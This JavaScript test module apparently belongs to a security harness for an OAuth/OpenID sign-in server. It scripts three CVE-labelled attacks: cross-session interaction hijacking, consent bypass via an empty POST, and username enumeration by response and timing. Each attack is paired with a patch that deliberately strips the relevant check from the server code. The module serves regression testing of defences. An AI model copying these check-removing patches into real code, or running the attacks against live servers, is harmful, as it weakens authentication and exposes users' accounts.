import { Browser } from '../thief.mjs'
import { authorizeUrl, through } from '../world.mjs'

const ENDPOINTS = 'packages/server/dist/endpoints'

async function signInPage(world, browser) {
  const { location } = await browser.go(authorizeUrl(world))
  return { url: location, page: await browser.go(location) }
}

export const attacks = [
  {
    id: 'A28',
    title: 'CVE-2023-0264: what one browser began is finished in the session of another',
    weakening: [
      { file: `${ENDPOINTS}/found-interaction.js`, find: '!here.some((session) => isOf(interaction.value, session))', put: 'false' },
    ],
    async attack(world) {
      const { url } = await signInPage(world, new Browser())
      const thief = new Browser()
      await through(world, authorizeUrl(world), thief, 'other')
      const seen = await thief.go(url)
      return { won: seen.status !== 400, how: `the address in another session: ${seen.status}` }
    },
  },
  {
    id: 'A56',
    title: 'CVE-2026-49443: an empty POST skips a step',
    weakening: [{ file: `${ENDPOINTS}/interaction-consent.js`, find: "if (answer !== 'allow')", put: 'if (false)' }],
    async attack(world) {
      const browser = new Browser()
      const { url, page } = await signInPage(world, browser)
      for (const fields of [{}, { answer: 'allow' }, { username: '', password: '' }]) {
        const seen = await browser.submit(page, url, fields)
        if (seen.status !== 400) return { won: true, how: `the sign-in page was passed with ${JSON.stringify(fields)}` }
      }
      await browser.submit(page, url, { username: 'victim', password: 'the password of the victim' })
      const consent = await browser.go(url)
      const seen = await browser.submit(consent, url, {})
      return {
        won: seen.location !== undefined && seen.location !== url,
        how: `sign-in refused three times; consent with nothing: ${seen.status}`,
      }
    },
  },
  {
    id: 'A58',
    title: 'CVE-2024-41952: the answer, or its time, tells which names exist',
    weakening: [
      {
        file: 'packages/server/dist/interaction/steps/login.js',
        find: 'const account = await context.accounts.verifyPassword(username, password)',
        put: "const account = username.startsWith('nobody') ? undefined : await context.accounts.verifyPassword(username, password)",
      },
    ],
    async attack(world) {
      const attempt = async (username) => {
        const browser = new Browser()
        const { url, page } = await signInPage(world, browser)
        const started = performance.now()
        const seen = await browser.submit(page, url, { username, password: 'wrong' })
        const text = seen.text.replaceAll(username, '').replaceAll(/value="[^"]*"|action="[^"]*"/g, '')
        return { time: performance.now() - started, answer: `${seen.status} ${text}` }
      }
      const known = []
      const unknown = []
      for (let times = 0; times < 8; times++) {
        known.push(await attempt('victim'))
        unknown.push(await attempt(`nobody-${times}`))
      }
      const median = (all) => all.map(({ time }) => time).sort((a, b) => a - b)[all.length >> 1]
      const ratio = median(unknown) / median(known)
      const same = known[0].answer === unknown[0].answer
      return {
        won: !same || ratio < 0.5 || ratio > 2,
        how: `${same ? 'equal' : 'different'} answers; time unknown : known = ${ratio.toFixed(2)}`,
      }
    },
  },
]
